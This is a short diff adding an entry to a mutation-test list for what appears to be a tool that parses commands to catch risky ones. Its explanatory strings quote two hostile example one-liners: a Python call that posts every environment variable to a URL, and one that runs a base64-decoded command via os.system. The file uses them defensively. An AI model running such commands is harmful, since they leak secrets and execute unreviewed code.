@@ -846,6 +846,14 @@ export const MUTANTS = [
     why: '`python3 -c "os.system(base64.b64decode(\'…\').decode())"` runs a command nobody read, unasked',
   },
   {
+    id: 'parse.code-env-send-unread',
+    file: 'src/core/parse/codeCalls.ts',
+    from: '  reading.argvs.push(...envSends(code));',
+    to: '',
+    tests: ['parse/codeEnvSends'],
+    why: '`python3 -c "requests.post(URL, data=dict(os.environ))"` sends every secret of the environment unasked',
+  },
+  {
     id: 'state.lock-gone-holder-waited',
     file: 'src/core/state/lockFile.ts',
     from: '(Date.now() - held.mtimeMs > STALE_LOCK_MS || holderGone(held))',
